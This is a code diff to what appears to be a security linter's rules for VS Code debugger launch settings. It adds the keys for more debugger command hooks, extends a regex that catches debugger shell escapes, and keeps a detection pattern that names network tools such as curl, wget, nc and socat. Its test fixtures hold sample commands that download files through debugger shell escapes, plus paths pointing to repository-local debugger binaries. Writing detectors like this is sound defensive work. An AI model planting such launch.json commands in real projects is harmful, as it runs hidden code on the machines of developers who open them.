@@ -21,8 +21,15 @@ function commandScope(value: SettingValue): SettingValue {
   return value.parent?.get('runtimeArgs') || value.parent?.get('args') ? (value.parent ?? value) : value;
 }
 
+/** Commands that a debugger is given: cppdbg, CodeLLDB and lldb-dap, Cortex-Debug, Native Debug. */
+const DEBUGGER_COMMANDS = [
+  'setupCommands[].text', 'customLaunchSetupCommands[].text', 'postRemoteConnectCommands[].text', 'autorun[]',
+  '{initCommands,preRunCommands,postRunCommands,launchCommands,attachCommands,targetCreateCommands,processCreateCommands,preTerminateCommands,stopCommands,exitCommands,terminateCommands}[]',
+  '{preLaunchCommands,postLaunchCommands,preAttachCommands,postAttachCommands,overrideLaunchCommands,overrideAttachCommands,preRestartCommands,postRestartCommands,overrideRestartCommands,preResetCommands,postResetCommands,overrideResetCommands}[]',
+] as const;
+
 /** Debugger commands that reach a shell: `shell x`, `platform shell x`, `!x`. */
-const DEBUGGER_SHELL = /^\s{0,20}(?:-exec\s{1,5})?(?:platform\s{1,5}shell|shell|!|command script|script)\s{0,5}\S/;
+const DEBUGGER_SHELL = /^\s{0,20}(?:-exec\s{1,5}|-interpreter-exec\s{1,5}\w{1,20}\s{1,5}["']?)?(?:platform\s{1,5}shell|shell|!|command script|script)\s{0,5}\S/;
 const NETWORK_WORD = /(?:^|[\s;&|("'`$])(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|ncat|nc|socat|scp|ftp|tftp|aria2c)(?:\.exe)?\s/i;
 
 function debuggerCommand(value: SettingValue, context: RowContext): boolean | RowMatch {
@@ -48,7 +55,7 @@ export const VSCODE_LAUNCH: readonly VscodeRow[] = [
   },
   {
     id: 'A8-2',
-    key: keys('{runtimeExecutable,python,pythonPath,miDebuggerPath,debugServerPath,dlvToolPath}', 'pipeTransport.pipeProgram'),
+    key: keys('{runtimeExecutable,python,pythonPath,miDebuggerPath,debugServerPath,dlvToolPath,gdbPath,gdbpath,lldbmipath,serverpath,debuggerPath}', 'pipeTransport.pipeProgram'),
     when: (value) => {
       const path = textOf(value);
       if (!isRepoRelative(path)) return false;
@@ -59,19 +66,19 @@ export const VSCODE_LAUNCH: readonly VscodeRow[] = [
     cwe: [426],
     source: LAUNCH_DOC,
     data: { effect: 'makes the debugger run a program of this repository' },
-    bad: [launch({ runtimeExecutable: './.vscode/node' }), launch({ miDebuggerPath: '${workspaceFolder}/gdb.sh' })],
+    bad: [launch({ runtimeExecutable: './.vscode/node' }), launch({ type: 'cortex-debug', gdbPath: './.cache/gdb' }), launch({ miDebuggerPath: '${workspaceFolder}/gdb.sh' })],
     good: [launch({ runtimeExecutable: '${workspaceFolder}/node_modules/.bin/nodemon' }), launch({ runtimeExecutable: 'yarn' }), launch({ python: '${workspaceFolder}/.venv/bin/python' }), launch({ program: '${workspaceFolder}/build/app' })],
   },
   {
     id: 'A8-2',
-    key: keys('setupCommands[].text', 'customLaunchSetupCommands[].text', '{initCommands,preRunCommands,postRunCommands,launchCommands,stopCommands,exitCommands}[]'),
+    key: keys(...DEBUGGER_COMMANDS),
     when: debuggerCommand,
     report: 'launchCommand',
     preset: 'recommended',
     cwe: [78],
     source: LAUNCH_DOC,
-    bad: [launch({ initCommands: [`platform shell ${DOWNLOAD}`] }), launch({ setupCommands: [{ text: 'shell wget https://example.com/x -O /tmp/x' }] }), launch({ preRunCommands: ['shell ls'] })],
-    good: [launch({ setupCommands: [{ text: '-enable-pretty-printing' }], initCommands: ['settings set target.x 1', 'command alias a b'] })],
+    bad: [launch({ initCommands: [`platform shell ${DOWNLOAD}`] }), launch({ setupCommands: [{ text: 'shell wget https://example.com/x -O /tmp/x' }] }), launch({ preRunCommands: ['shell ls'] }), launch({ setupCommands: [{ text: `-interpreter-exec console "shell ${DOWNLOAD}"` }] }), launch({ preLaunchCommands: [`shell ${DOWNLOAD}`] })],
+    good: [launch({ preLaunchCommands: ['monitor reset halt', 'load'], setupCommands: [{ text: '-interpreter-exec console "set pagination off"' }] }), launch({ setupCommands: [{ text: '-enable-pretty-printing' }], initCommands: ['settings set target.x 1', 'command alias a b'] })],
   },
   {
     id: 'A8-3',
